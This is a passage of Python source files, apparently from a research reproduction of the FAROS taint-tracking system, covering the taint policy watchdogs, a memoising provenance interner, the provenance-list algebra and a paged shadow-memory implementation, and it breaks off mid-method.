    process_tags_on_access: bool = True

    #: Watchdog: maximum live tainted bytes in shadow memory before the
    #: tracker trips :class:`~repro.faults.errors.TaintBudgetExceeded`
    #: (the paper's overtainting explosion, caught instead of suffered).
    #: None disables.
    max_tainted_bytes: "int | None" = None

    #: Watchdog: maximum canonical provenance lists the interner may
    #: hold.  A run that manufactures unbounded distinct chronologies is
    #: state-space exhaustion; trip deterministically rather than
    #: degrade the host.  None disables.
    max_prov_nodes: "int | None" = None

    #: Bounded-FIFO depth (in packed records) for the decoupled taint
    #: pipeline's batched/worker transports.  When the ring would exceed
    #: this, the oldest queued events soft-drop to page-granular
    #: overtainting (conservative: over-reports, never under-reports)
    #: and the run is flagged degraded.  None = unbounded ring, no
    #: drops; ignored by the ``inline`` transport.
    max_queue_depth: "int | None" = None

    @property
    def has_taint_budget(self) -> bool:
        """True when any taint-budget watchdog is armed."""
        return self.max_tainted_bytes is not None or self.max_prov_nodes is not None


#: FAROS' production configuration: no indirect flows, rich provenance.
FAROS_POLICY = TaintPolicy()

#: Ablation: classic conservative DIFT (both indirect flows on).
OVERTAINT_POLICY = TaintPolicy(track_address_deps=True, track_control_deps=True)
