"""The global provenance interner: canonical lists + memoised algebra.

The per-instruction propagation loop is where whole-system DIFT pays its
overhead (Table V), and in this substrate the dominant cost used to be
*allocations*: every union and every process-tag append rebuilt a fresh
provenance tuple even when an identical list had been produced thousands
of times before.  Real provenance traffic is extremely repetitive -- a
netflow payload of N bytes carries N references to the *same* list, and
an injected region is touched by the same (netflow, injector, victim)
chronology over and over.

:class:`ProvInterner` exploits that repetition:

* :meth:`intern` canonicalises a provenance tuple, so structurally equal
  lists become the *same object* and downstream comparisons are pointer
  comparisons;
* :meth:`union` / :meth:`append` are memoised versions of
  :func:`~repro.taint.provenance.prov_union` /
  :func:`~repro.taint.provenance.append_tag`, keyed on the *identity* of
  canonical inputs -- a cache hit costs two dict probes and allocates
  nothing.

Identity-keyed caches are only sound because the interner keeps a strong
reference to every canonical tuple it has ever returned (``id`` values
can never be recycled).  Tuples that did not come from this interner are
canonicalised on entry, so external callers may pass arbitrary lists.

The memoised operations compute *exactly* the Table I semantics of the
plain functions in :mod:`repro.taint.provenance`; the differential
harness (``tests/taint/test_differential.py``) holds the two
implementations bit-identical.
"""

from __future__ import annotations

from typing import Dict, Iterable, Set, Tuple

from repro.taint.provenance import EMPTY, append_tag, prov_union
from repro.taint.tags import Tag

Prov = Tuple[Tag, ...]


class ProvInterner:
    """Canonical provenance tuples with memoised union/append."""

    __slots__ = ("_canon", "_ids", "_seeds", "_union_cache", "_append_cache", "hits", "misses")

    def __init__(self) -> None:
        #: value-keyed canonical map; holds every canonical tuple forever
        #: (this is what keeps the id-keyed caches sound).
        self._canon: Dict[Prov, Prov] = {}
        #: ids of canonical tuples, so already-canonical inputs skip the
        #: tuple-hashing probe of :attr:`_canon` entirely.
        self._ids: Set[int] = set()
        #: single-tag lists, keyed by tag (the taint-seeding hot case).
        self._seeds: Dict[Tag, Prov] = {}
        self._union_cache: Dict[Tuple[int, int], Prov] = {}
        self._append_cache: Dict[Tuple[int, Tag], Prov] = {}
        self.hits = 0
        self.misses = 0

    # ------------------------------------------------------------------
    # canonicalisation
    # ------------------------------------------------------------------

    def intern(self, prov: Prov) -> Prov:
        """Return the canonical object equal to *prov* (registering it
        as canonical if no equal list has been seen before)."""
        if not prov:
            return EMPTY
        if id(prov) in self._ids:
            return prov
        canon = self._canon.get(prov)
        if canon is None:
            self._canon[prov] = prov
            self._ids.add(id(prov))
            return prov
        return canon

    def seed(self, tag: Tag) -> Prov:
        """The canonical single-tag list ``(tag,)``."""
        prov = self._seeds.get(tag)
        if prov is None:
            prov = self.intern((tag,))
            self._seeds[tag] = prov
        return prov

    # ------------------------------------------------------------------
    # memoised Table I algebra
    # ------------------------------------------------------------------

    def append(self, prov: Prov, tag: Tag) -> Prov:
        """Memoised :func:`~repro.taint.provenance.append_tag`."""
        if not prov:
            return self.seed(tag)
        prov = self.intern(prov)
        key = (id(prov), tag)
        out = self._append_cache.get(key)
        if out is None:
            self.misses += 1
            out = self.intern(append_tag(prov, tag))
            self._append_cache[key] = out
        else:
            self.hits += 1
        return out

    def union(self, a: Prov, b: Prov) -> Prov:
        """Memoised :func:`~repro.taint.provenance.prov_union`."""
        if not a:
            return self.intern(b) if b else EMPTY
        if not b or a is b:
            return self.intern(a)
        a = self.intern(a)
        b = self.intern(b)
        if a is b:
            return a
        key = (id(a), id(b))
        out = self._union_cache.get(key)
        if out is None:
            self.misses += 1
            out = self.intern(prov_union(a, b))
            self._union_cache[key] = out
        else:
            self.hits += 1
        return out

    def union_all(self, lists: Iterable[Prov]) -> Prov:
        """Memoised fold of :meth:`union` over *lists*."""
        out: Prov = EMPTY
        for prov in lists:
            out = self.union(out, prov)
        return out

    # ------------------------------------------------------------------
    # introspection (for TrackerStats / benchmarks)
    # ------------------------------------------------------------------

    def hit_rate(self) -> float:
        """Fraction of memoised union/append calls served from cache.

        0.0 when the interner has seen no algebra at all (a run that
        never propagated taint), so the gauge is always well-defined.
        """
        total = self.hits + self.misses
        return self.hits / total if total else 0.0

    @property
    def canonical_count(self) -> int:
        """Live canonical provenance lists (cheap: one ``len``).

        The taint-budget watchdog polls this on every propagation batch,
        so it must not build the full :meth:`cache_sizes` dict.
        """
        return len(self._canon)

    def cache_sizes(self) -> Dict[str, int]:
        """Current interner/cache populations (tag-memory pressure)."""
        return {
            "canonical": len(self._canon),
            "union_cache": len(self._union_cache),
            "append_cache": len(self._append_cache),
        }

    def clear(self) -> None:
        """Drop every canonical list and cache entry.

        Only safe when no shadow state holds tuples from this interner:
        after a clear, previously returned tuples are no longer known and
        id-keyed hits for them would be misses (never wrong results --
        inputs are re-canonicalised on entry -- just cold caches).
        """
        self._canon.clear()
        self._ids.clear()
        self._seeds.clear()
        self._union_cache.clear()
        self._append_cache.clear()
        self.hits = 0
        self.misses = 0


#: Process-wide default interner.  Sharing one interner across trackers
#: makes identity comparison valid across components; per-tracker
#: instances are still possible for isolation (pass ``interner=`` to
#: :class:`~repro.taint.tracker.TaintTracker`).
GLOBAL_INTERNER = ProvInterner()
