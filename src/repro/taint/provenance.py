"""Provenance lists and their propagation algebra (Table I, Fig. 4).

A provenance list is an **ordered, duplicate-free tuple of tags**,
oldest-first: ``(netflow, process_A, process_B, ...)`` reads as "came in
over this netflow, then was touched by A, then by B" -- the river
chronology of Fig. 4.  Tuples are immutable so copies are free
(reference-shared) and lists can key dictionaries.

The three propagation operations are exactly the paper's Table I:

========== ====================================================
operation  rule
========== ====================================================
copy(a,b)  ``prov(a) <- prov(b)``
union      ``prov(c) <- prov(a) ∪ prov(b)`` (order-preserving)
delete(a)  ``prov(a) <- ∅``
========== ====================================================

Lists are capped at :data:`MAX_PROV_LEN` tags.  Without a cap, a byte
that transits many processes/files accumulates unbounded history and an
adversary can blow up tag memory (§VI-D); with the cap, the *oldest*
tags are kept because the origin end of the chronology is what the
analyst needs (where did this byte come from).
"""

from __future__ import annotations

from typing import Iterable, Tuple

from repro.taint.tags import Tag

#: The empty provenance list (untainted).
EMPTY: Tuple[Tag, ...] = ()

#: Maximum tags retained per byte.
MAX_PROV_LEN = 16


def prov_copy(src: Tuple[Tag, ...]) -> Tuple[Tag, ...]:
    """Table I ``copy``: destination takes the source list (shared)."""
    return src


def append_tag(prov: Tuple[Tag, ...], tag: Tag) -> Tuple[Tag, ...]:
    """Record that *tag*'s subject touched this byte (chronology append).

    Idempotent: a tag already present keeps its original (earlier)
    position -- the list records *first* contact, which bounds growth
    while preserving the origin-first ordering reports rely on.
    """
    if tag in prov:
        return prov
    if len(prov) >= MAX_PROV_LEN:
        return prov
    return prov + (tag,)


def prov_union(a: Tuple[Tag, ...], b: Tuple[Tag, ...]) -> Tuple[Tag, ...]:
    """Table I ``union``: merge preserving order of first appearance."""
    if not a:
        return b
    if not b or a == b:
        return a
    out = a
    for tag in b:
        if tag not in out:
            if len(out) >= MAX_PROV_LEN:
                break
            out = out + (tag,)
    return out


def delete() -> Tuple[Tag, ...]:
    """Table I ``delete``: the empty list."""
    return EMPTY


def union_all(lists: Iterable[Tuple[Tag, ...]]) -> Tuple[Tag, ...]:
    """Union an iterable of provenance lists (e.g. 4 bytes of a word)."""
    out: Tuple[Tag, ...] = EMPTY
    for prov in lists:
        out = prov_union(out, prov)
    return out
