"""Shadow state: two-representation shadow memory and register banks.

The paper keeps "a shadow memory and a shadow register bank" as hash
maps (§V-A).  Ours are:

* :class:`ShadowMemory` -- ``physical address -> provenance list``,
  organised as sparse **4 KiB shadow pages** with **two page
  representations** (the multidift tag-page model):

  - *dict pages* (``{paddr: prov}``) for mixed-provenance pages, the
    original hash-map form and the semantic baseline;
  - *array pages* (:class:`ShadowArrayPage`) for pages whose bytes
    draw from a small set of interned provenance lists: a flat
    ``bytearray`` of 3-byte **provenance codes** (indices into a
    per-shadow code table, code 0 = clean), so range taint, kernel
    copies and NIC DMA become slice copies instead of per-byte dict
    traffic.

  Pages promote to the array form once they are dense enough and hold
  few enough distinct lists, and demote back to dicts when provenance
  diversity or sparsity makes the flat form a bad fit; both directions
  preserve exact per-byte provenance.  Keying on *physical* addresses
  is what makes the analysis whole-system: a byte injected across
  address spaces keeps its shadow entry because it keeps its physical
  location.  The page table doubles as the **dirty-page index** --
  only pages holding at least one tainted byte exist in it.

  Each dirty page also carries a lazily-maintained **summary word**
  (the flag cache): the OR of its bytes' tag-class bits
  (:data:`SUMMARY_NETFLOW` / :data:`SUMMARY_PROCESS` /
  :data:`SUMMARY_FILE` / :data:`SUMMARY_EXPORT`), so the detector's
  confluence pre-check is a single mask test, plus per-page epoch
  counters that let the block translator cache a byte-precise
  "this block's fetch range is clean" verdict across dispatches.

* :class:`ShadowRegisters` -- one provenance list per architectural
  register, *per thread*, with a ``tainted`` count for the tracker's
  O(1) bank-clean gate.

Range operations take ``(start, length)`` pairs; scattered accesses
use the ``*_bytes`` variants over per-byte ``paddrs`` tuples.  Bulk
ops (:meth:`ShadowMemory.append_range`, :meth:`ShadowMemory.copy_range`)
are **interner-counter exact**: they perform (or compensate for) the
same memoised algebra calls the per-byte loops would, so differential
runs across representations agree down to interner hit/miss counters.
``taint/reference.py`` keeps the byte-at-a-time semantics as the
oracle.
"""

from __future__ import annotations

from typing import Dict, Iterable, Iterator, List, Optional, Sequence, Set, Tuple

from repro.isa.registers import NUM_REGS, Reg
from repro.taint.provenance import EMPTY, append_tag, prov_union
from repro.taint.tags import Tag

Prov = Tuple[Tag, ...]

#: Shadow pages are 4 KiB -- independent of the guest's 256-byte MMU
#: pages.  Larger shadow pages mean fewer probes on the clean path; the
#: dirty-byte structure inside a page stays sparse either way.
SHADOW_PAGE_SHIFT = 12
SHADOW_PAGE_SIZE = 1 << SHADOW_PAGE_SHIFT

#: Summary-word (flag cache) bits: bit ``1 << (TagType - 1)`` set when
#: any byte of the page carries a tag of that class.
SUMMARY_NETFLOW = 1  # TagType.NETFLOW
SUMMARY_PROCESS = 2  # TagType.PROCESS
SUMMARY_FILE = 4  # TagType.FILE (code/image provenance)
SUMMARY_EXPORT = 8  # TagType.EXPORT_TABLE

_ZERO3 = b"\x00\x00\x00"

#: shadow_mode -> (promote_bytes, demote_bytes, max_array_codes).
#: ``promote_bytes is None`` disables the array representation
#: entirely ("dict" is the pre-flag-cache baseline); "array" promotes
#: a page on its first tainted byte; "mixed" uses deliberately tight
#: thresholds so randomized runs churn through promote/demote
#: transitions (the representation-differential matrix exercises it).
_MODES: Dict[str, Tuple[Optional[int], int, int]] = {
    "auto": (128, 24, 16),
    "dict": (None, 0, 0),
    "array": (1, 0, 65536),
    "mixed": (8, 4, 2),
}

#: value-keyed memo of provenance list -> summary class mask.  Shared
#: process-wide (masks depend only on tag types, never on interners).
_CLASS_MEMO: Dict[Prov, int] = {}


def prov_class_mask(prov: Prov) -> int:
    """OR of ``1 << (tag.type - 1)`` over *prov* (0 for clean)."""
    if not prov:
        return 0
    mask = _CLASS_MEMO.get(prov)
    if mask is None:
        mask = 0
        for tag in prov:
            mask |= 1 << (tag.type - 1)
        _CLASS_MEMO[prov] = mask
    return mask


class ShadowArrayPage:
    """Flat 4 KiB tag page: one 3-byte provenance code per byte.

    ``codes`` is a conservative superset of the non-zero codes present
    (entries are added eagerly on writes and only recomputed exactly
    when the superset outgrows the mode's ``max_array_codes``);
    ``count`` is the exact number of non-clean bytes.
    """

    __slots__ = ("tags", "count", "codes")

    def __init__(self) -> None:
        self.tags = bytearray(3 * SHADOW_PAGE_SIZE)
        self.count = 0
        self.codes: Set[int] = set()


def _nonzero_entries(tags: bytearray, a3: int, b3: int) -> int:
    """Number of non-clean 3-byte entries in ``tags[a3:b3]``."""
    zeros = tags.count(0, a3, b3)
    if zeros == b3 - a3:
        return 0
    if zeros == 0:
        return (b3 - a3) // 3
    count = 0
    for off in range(a3, b3, 3):
        if tags[off] or tags[off + 1] or tags[off + 2]:
            count += 1
    return count


class ShadowMemory:
    """Sparse byte-granular shadow over physical memory, in 4 KiB pages.

    Invariants: no page is ever empty (``page absent`` == "these 4 KiB
    carry no taint", the all-clean fast exit); no dict entry and no
    array code maps to an empty provenance list; when a page's summary
    word is cached it equals the OR of its bytes' tag-class masks.
    """

    __slots__ = (
        "_pages",
        "_count",
        "_union",
        "_append",
        "_seed",
        "_intern",
        "_interner",
        "mode",
        "_promote_bytes",
        "_demote_bytes",
        "_max_codes",
        "_code_of",
        "_prov_of",
        "_enc",
        "_class_of",
        "_summaries",
        "_epochs",
        "_promote_retry",
        "_code_overflow",
        "promotions",
        "demotions",
        "summary_hits",
        "summary_misses",
    )

    def __init__(self, interner=None, mode: str = "auto") -> None:
        if mode not in _MODES:
            raise ValueError(
                f"unknown shadow mode {mode!r} (choose from {sorted(_MODES)})"
            )
        #: shadow page number -> dict page or ShadowArrayPage (absent = clean).
        self._pages: Dict[int, object] = {}
        self._count = 0
        self._interner = interner
        if interner is not None:
            self._union = interner.union
            self._append = interner.append
            self._seed = interner.seed
            self._intern = interner.intern
        else:
            self._union = prov_union
            self._append = append_tag
            self._seed = lambda tag: (tag,)
            self._intern = lambda prov: prov
        self.mode = mode
        self._promote_bytes, self._demote_bytes, self._max_codes = _MODES[mode]
        #: provenance code table: canonical list <-> 3-byte code, 0 = clean.
        self._code_of: Dict[Prov, int] = {EMPTY: 0}
        self._prov_of: List[Prov] = [EMPTY]
        self._enc: List[bytes] = [_ZERO3]
        self._class_of: List[int] = [0]
        #: flag cache: page number -> summary word (absent = not cached).
        self._summaries: Dict[int, int] = {}
        #: page number -> mutation epoch (bumped on every content change).
        self._epochs: Dict[int, int] = {}
        #: promotion back-off: page number -> retry once len(page) >= this.
        self._promote_retry: Dict[int, int] = {}
        self._code_overflow = False
        self.promotions = 0
        self.demotions = 0
        self.summary_hits = 0
        self.summary_misses = 0

    # ------------------------------------------------------------------
    # code table
    # ------------------------------------------------------------------

    def _encode(self, prov: Prov) -> int:
        """Code for *prov*, assigning one if new; -1 on table overflow."""
        code = self._code_of.get(prov)
        if code is None:
            if len(self._prov_of) > 0xFFFFFF:
                self._code_overflow = True
                return -1
            prov = self._intern(prov)
            code = len(self._prov_of)
            self._code_of[prov] = code
            self._prov_of.append(prov)
            self._enc.append(bytes((code & 0xFF, (code >> 8) & 0xFF, code >> 16)))
            self._class_of.append(prov_class_mask(prov))
        return code

    # ------------------------------------------------------------------
    # flag cache / epochs
    # ------------------------------------------------------------------

    def _bump(self, number: int) -> None:
        epochs = self._epochs
        epochs[number] = epochs.get(number, 0) + 1

    def page_epoch(self, number: int) -> int:
        """Monotonic content-mutation counter for shadow page *number*.

        Bumped on every content change (including page deletion), never
        on representation changes -- so an unchanged epoch certifies any
        cached byte-precise verdict about the page (the translator's
        per-block fetch-range cleanliness bit).
        """
        return self._epochs.get(number, 0)

    def page_summary(self, number: int) -> int:
        """Summary word of page *number*: OR of its bytes' class masks.

        0 for absent (clean) pages.  Served from the flag cache when
        possible; recomputed exactly (and re-cached) otherwise.
        """
        page = self._pages.get(number)
        if page is None:
            return 0
        summary = self._summaries.get(number)
        if summary is not None:
            self.summary_hits += 1
            return summary
        self.summary_misses += 1
        summary = 0
        if type(page) is dict:
            for prov in page.values():
                summary |= prov_class_mask(prov)
        else:
            tags = page.tags
            class_of = self._class_of
            codes: Set[int] = set()
            for chunk in range(0, 3 * SHADOW_PAGE_SIZE, 384):
                if tags.count(0, chunk, chunk + 384) == 384:
                    continue
                for off in range(chunk, chunk + 384, 3):
                    code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                    if code:
                        codes.add(code)
            page.codes = codes  # exact refresh, piggybacked on the scan
            for code in codes:
                summary |= class_of[code]
        self._summaries[number] = summary
        return summary

    def _sum_drop(self, number: int) -> None:
        self._summaries.pop(number, None)

    def _sum_or(self, number: int, mask: int) -> None:
        """OR *mask* into a cached summary (pure-add ops only)."""
        summaries = self._summaries
        if number in summaries:
            summaries[number] |= mask

    # ------------------------------------------------------------------
    # single-byte access
    # ------------------------------------------------------------------

    def get(self, paddr: int) -> Prov:
        page = self._pages.get(paddr >> SHADOW_PAGE_SHIFT)
        if page is None:
            return EMPTY
        if type(page) is dict:
            return page.get(paddr, EMPTY)
        off = (paddr & (SHADOW_PAGE_SIZE - 1)) * 3
        tags = page.tags
        return self._prov_of[tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16]

    def set(self, paddr: int, prov: Prov) -> None:
        pages = self._pages
        number = paddr >> SHADOW_PAGE_SHIFT
        page = pages.get(number)
        if page is None:
            if not prov:
                return
            page = pages[number] = {paddr: prov}
            self._count += 1
            self._summaries[number] = prov_class_mask(prov)
            self._bump(number)
            return
        if type(page) is dict:
            if prov:
                old = page.get(paddr)
                if old is None:
                    self._count += 1
                    self._sum_or(number, prov_class_mask(prov))
                elif old is not prov and old != prov:
                    self._sum_drop(number)
                page[paddr] = prov
                self._bump(number)
                pb = self._promote_bytes
                if pb is not None and len(page) >= pb:
                    self._maybe_promote(number, page)
            elif page.pop(paddr, None) is not None:
                self._count -= 1
                self._bump(number)
                if not page:
                    del pages[number]
                    self._sum_drop(number)
                else:
                    self._sum_drop(number)
            return
        # array page
        off = (paddr & (SHADOW_PAGE_SIZE - 1)) * 3
        tags = page.tags
        old_dirty = tags[off] or tags[off + 1] or tags[off + 2]
        if prov:
            code = self._encode(prov)
            if code < 0:
                self._demote(number, page)
                self.set(paddr, prov)
                return
            tags[off : off + 3] = self._enc[code]
            if old_dirty:
                self._sum_drop(number)
            else:
                page.count += 1
                self._count += 1
                self._sum_or(number, self._class_of[code])
            page.codes.add(code)
            self._bump(number)
            if len(page.codes) > self._max_codes:
                self._check_codes(number, page)
        elif old_dirty:
            tags[off : off + 3] = _ZERO3
            page.count -= 1
            self._count -= 1
            self._sum_drop(number)
            self._bump(number)
            if page.count == 0:
                del pages[number]
            elif page.count < self._demote_bytes:
                self._demote(number, page)

    # ------------------------------------------------------------------
    # contiguous (start, length) ranges
    # ------------------------------------------------------------------

    def _chunks(self, start: int, length: int) -> Iterator[Tuple[int, int, int]]:
        """Yield ``(page_number, pos, page_end)`` per touched shadow page."""
        pos, end = start, start + length
        while pos < end:
            number = pos >> SHADOW_PAGE_SHIFT
            page_end = min(end, (number + 1) << SHADOW_PAGE_SHIFT)
            yield number, pos, page_end
            pos = page_end

    def get_range(self, start: int, length: int) -> Prov:
        """Union of the provenance of ``length`` bytes from ``start``.

        Both representations union per non-clean entry in ascending
        address order -- the identical memoised-call sequence, so the
        interner counters cannot drift across page representations.
        """
        out: Prov = EMPTY
        pages = self._pages
        union = self._union
        for number, pos, page_end in self._chunks(start, length):
            page = pages.get(number)
            if page is None:
                continue
            if type(page) is dict:
                for paddr in range(pos, page_end):
                    prov = page.get(paddr)
                    if prov:
                        out = union(out, prov)
            else:
                tags = page.tags
                prov_of = self._prov_of
                base = number << SHADOW_PAGE_SHIFT
                a3, b3 = (pos - base) * 3, (page_end - base) * 3
                if tags.count(0, a3, b3) == b3 - a3:
                    continue
                for off in range(a3, b3, 3):
                    code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                    if code:
                        out = union(out, prov_of[code])
        return out

    def set_range(self, start: int, length: int, prov: Prov) -> None:
        if not prov:
            self.clear_range(start, length)
            return
        pages = self._pages
        pb = self._promote_bytes
        for number, pos, page_end in self._chunks(start, length):
            run = page_end - pos
            page = pages.get(number)
            if page is None:
                if pb is not None and run >= pb:
                    page = pages[number] = ShadowArrayPage()
                else:
                    page = pages[number] = {}
            if type(page) is dict:
                before = len(page)
                had = bool(before)
                for paddr in range(pos, page_end):
                    page[paddr] = prov
                self._count += len(page) - before
                if had and len(page) != before + run:
                    self._sum_drop(number)  # overwrote existing entries
                else:
                    if had:
                        self._sum_or(number, prov_class_mask(prov))
                    else:
                        self._summaries[number] = prov_class_mask(prov)
                self._bump(number)
                if pb is not None and len(page) >= pb:
                    self._maybe_promote(number, page)
            else:
                code = self._encode(prov)
                if code < 0:
                    self._demote(number, page)
                    self.set_range(pos, run, prov)
                    continue
                tags = page.tags
                base = number << SHADOW_PAGE_SHIFT
                a3, b3 = (pos - base) * 3, (page_end - base) * 3
                removed = _nonzero_entries(tags, a3, b3)
                tags[a3:b3] = self._enc[code] * run
                page.count += run - removed
                self._count += run - removed
                page.codes.add(code)
                if removed:
                    self._sum_drop(number)
                else:
                    self._sum_or(number, self._class_of[code])
                self._bump(number)
                if len(page.codes) > self._max_codes:
                    self._check_codes(number, page)

    def clear_range(self, start: int, length: int) -> None:
        pages = self._pages
        for number, pos, page_end in self._chunks(start, length):
            page = pages.get(number)
            if page is None:  # absent page: skip the whole 4 KiB in one probe
                continue
            if type(page) is dict:
                pop = page.pop
                removed = 0
                for paddr in range(pos, page_end):
                    if pop(paddr, None) is not None:
                        removed += 1
                if removed:
                    self._count -= removed
                    self._sum_drop(number)
                    self._bump(number)
                    if not page:
                        del pages[number]
            else:
                tags = page.tags
                base = number << SHADOW_PAGE_SHIFT
                a3, b3 = (pos - base) * 3, (page_end - base) * 3
                removed = _nonzero_entries(tags, a3, b3)
                if removed:
                    tags[a3:b3] = bytes(b3 - a3)
                    page.count -= removed
                    self._count -= removed
                    self._sum_drop(number)
                    self._bump(number)
                    if page.count == 0:
                        del pages[number]
                    elif page.count < self._demote_bytes:
                        self._demote(number, page)

    # ------------------------------------------------------------------
    # bulk taint ops (interner-counter exact vs the per-byte loops)
    # ------------------------------------------------------------------

    def append_range(self, start: int, length: int, tag: Tag) -> None:
        """``shadow[p] = append(shadow[p], tag)`` for each byte of the range.

        Equivalent to the tracker's per-byte seeding loop, including its
        interner accounting: clean bytes take the (uncounted) seed path;
        per distinct existing list one real memoised ``append`` runs and
        every repeat is compensated as a cache hit -- exactly the hits
        the per-byte loop would have scored.
        """
        pages = self._pages
        append = self._append
        interner = self._interner
        pb = self._promote_bytes
        seed_code = -1
        for number, pos, page_end in self._chunks(start, length):
            run = page_end - pos
            page = pages.get(number)
            if page is None:
                # all-clean run: every byte takes the seed path (uncounted).
                self.set_range(pos, run, self._seed(tag))
                continue
            if type(page) is dict:
                for paddr in range(pos, page_end):
                    self.set(paddr, append(self.get(paddr), tag))
                continue
            tags = page.tags
            base = number << SHADOW_PAGE_SHIFT
            a3, b3 = (pos - base) * 3, (page_end - base) * 3
            if tags.count(0, a3, b3) == b3 - a3:
                self.set_range(pos, run, self._seed(tag))
                continue
            seg = tags[a3:b3]
            if seg[3:] == seg[:-3]:
                # uniform non-clean run: one real append, rest are hits.
                code = seg[0] | seg[1] << 8 | seg[2] << 16
                new_prov = append(self._prov_of[code], tag)
                new_code = self._encode(new_prov)
                if new_code < 0:
                    self._demote(number, page)
                    if interner is not None:
                        interner.hits += run - 1
                    dpage = pages[number]
                    for paddr in range(pos, page_end):
                        dpage[paddr] = new_prov
                    self._sum_drop(number)
                    self._bump(number)
                    continue
                if interner is not None:
                    interner.hits += run - 1
                tags[a3:b3] = self._enc[new_code] * run
                page.codes.add(new_code)
                self._sum_or(number, self._class_of[new_code])
                self._bump(number)
                if len(page.codes) > self._max_codes:
                    self._check_codes(number, page)
                continue
            # mixed run: memoise per distinct source code; repeats are
            # the hits the per-byte memoised append would have scored.
            if seed_code < 0:
                seed_code = self._encode(self._seed(tag))
            memo: Dict[int, int] = {}
            enc = self._enc
            added = 0
            mask = 0
            overflow = False
            for off in range(a3, b3, 3):
                code = tags[off] | tags[off + 1] << 8 | tags[off + 2] << 16
                if code == 0:
                    new_code = seed_code
                    added += 1
                else:
                    new_code = memo.get(code)
                    if new_code is None:
                        new_code = self._encode(append(self._prov_of[code], tag))
                        if new_code < 0:
                            overflow = True
                            break
                        memo[code] = new_code
                    elif interner is not None:
                        interner.hits += 1
                page.codes.add(new_code)
                mask |= self._class_of[new_code]
                tags[off : off + 3] = enc[new_code]
            if overflow:
                self._demote(number, page)
                for paddr in range(pos, page_end):
                    self.set(paddr, append(self.get(paddr), tag))
                continue
            page.count += added
            self._count += added
            self._sum_or(number, mask)
            self._bump(number)
            if len(page.codes) > self._max_codes:
                self._check_codes(number, page)

    def copy_range(self, dst: int, src: int, length: int, tag: Optional[Tag] = None) -> int:
        """``dst[i] <- src[i]`` tag copy (``append(tag)`` en route if given).

        Returns the number of per-byte appends the equivalent per-byte
        loop would report (its ``process_tag_appends`` contribution).
        Matches the per-byte zip-order semantics exactly: the rippling
        forward-overlap case (``src < dst < src+length``) falls back to
        the literal loop; every other case is memmove-equivalent.
        """
        if length <= 0 or (dst == src and tag is None):
            return 0
        if src < dst < src + length:
            return self._copy_bytes(dst, src, length, tag)
        appends = 0
        pos = 0
        pages = self._pages
        while pos < length:
            s, d = src + pos, dst + pos
            sn, dn = s >> SHADOW_PAGE_SHIFT, d >> SHADOW_PAGE_SHIFT
            chunk = min(
                length - pos,
                ((sn + 1) << SHADOW_PAGE_SHIFT) - s,
                ((dn + 1) << SHADOW_PAGE_SHIFT) - d,
            )
            spage = pages.get(sn)
            if spage is None:
                # clean source: per-byte writes EMPTY everywhere (uncounted).
                self.clear_range(d, chunk)
                pos += chunk
                continue
            dpage = pages.get(dn)
            if (
                type(spage) is dict
                or type(dpage) is dict
                or (dpage is None and (self._promote_bytes is None or chunk < self._promote_bytes))
            ):
                appends += self._copy_bytes(d, s, chunk, tag)
                pos += chunk
                continue
            appends += self._copy_array_chunk(dn, dpage, d, sn, spage, s, chunk, tag)
            pos += chunk
        return appends

    def _copy_bytes(self, dst: int, src: int, length: int, tag: Optional[Tag]) -> int:
        """The literal per-byte copy loop (overlap- and counter-faithful)."""
        append = self._append
        appends = 0
        for i in range(length):
            prov = self.get(src + i)
            if prov and tag is not None:
                prov = append(prov, tag)
                appends += 1
            self.set(dst + i, prov)
        return appends

    def _copy_array_chunk(
        self,
        dn: int,
        dpage: Optional[ShadowArrayPage],
        d: int,
        sn: int,
        spage: ShadowArrayPage,
        s: int,
        chunk: int,
        tag: Optional[Tag],
    ) -> int:
        """Array-to-array slice copy of one chunk (both pages array/fresh)."""
        pages = self._pages
        sbase = sn << SHADOW_PAGE_SHIFT
        sa3 = (s - sbase) * 3
        sb3 = sa3 + chunk * 3
        stags = spage.tags
        seg = stags[sa3:sb3]  # snapshot: same-buffer backward copies stay safe
        src_entries = _nonzero_entries(seg, 0, len(seg))
        if src_entries == 0:
            self.clear_range(d, chunk)
            return 0
        appends = 0
        interner = self._interner
        seg_codes: Optional[Set[int]] = None  # None -> spage.codes superset
        if tag is not None:
            append = self._append
            enc = self._enc
            if seg[3:] == seg[:-3]:
                code = seg[0] | seg[1] << 8 | seg[2] << 16
                new_code = self._encode(append(self._prov_of[code], tag))
                if new_code < 0:
                    return self._copy_overflow(d, s, chunk, tag)
                if interner is not None:
                    interner.hits += chunk - 1
                seg = bytearray(enc[new_code] * chunk)
                appends = chunk
                seg_codes = {new_code}
            else:
                memo: Dict[int, int] = {}
                seg_codes = set()
                for off in range(0, len(seg), 3):
                    code = seg[off] | seg[off + 1] << 8 | seg[off + 2] << 16
                    if code == 0:
                        continue
                    appends += 1
                    new_code = memo.get(code)
                    if new_code is None:
                        new_code = self._encode(append(self._prov_of[code], tag))
                        if new_code < 0:
                            return self._copy_overflow(d, s, chunk, tag)
                        memo[code] = new_code
                    elif interner is not None:
                        interner.hits += 1
                    seg[off : off + 3] = enc[new_code]
                    seg_codes.add(new_code)
                # fall through with the rewritten segment
        if dpage is None:
            dpage = pages[dn] = ShadowArrayPage()
        dbase = dn << SHADOW_PAGE_SHIFT
        da3 = (d - dbase) * 3
        db3 = da3 + chunk * 3
        dtags = dpage.tags
        removed = _nonzero_entries(dtags, da3, db3)
        dtags[da3:db3] = seg
        dpage.count += src_entries - removed
        self._count += src_entries - removed
        # conservative superset: the copied codes (exact when rewritten
        # through the append memo, the whole source page's set otherwise).
        dpage.codes |= spage.codes if seg_codes is None else seg_codes
        self._sum_drop(dn)
        self._bump(dn)
        if len(dpage.codes) > self._max_codes:
            self._check_codes(dn, dpage)
        return appends

    def _copy_overflow(self, d: int, s: int, chunk: int, tag: Optional[Tag]) -> int:
        """Code-table overflow mid-chunk (>16M distinct lists): redo the
        chunk per byte.  The destination is untouched up to this point
        (only the local segment copy was rewritten), so the replay is
        semantically exact; the handful of duplicated memoised calls is
        the one place bulk interner accounting is approximate."""
        return self._copy_bytes(d, s, chunk, tag)

    # ------------------------------------------------------------------
    # scattered per-byte paddr tuples (CPU accesses can span guest pages)
    # ------------------------------------------------------------------

    def get_bytes(self, paddrs: Iterable[int]) -> Prov:
        """Union of the provenance of several bytes (word loads)."""
        pages = self._pages
        if not pages:
            return EMPTY
        out: Prov = EMPTY
        union = self._union
        prov_of = self._prov_of
        previous = -1
        page: object = None
        for paddr in paddrs:
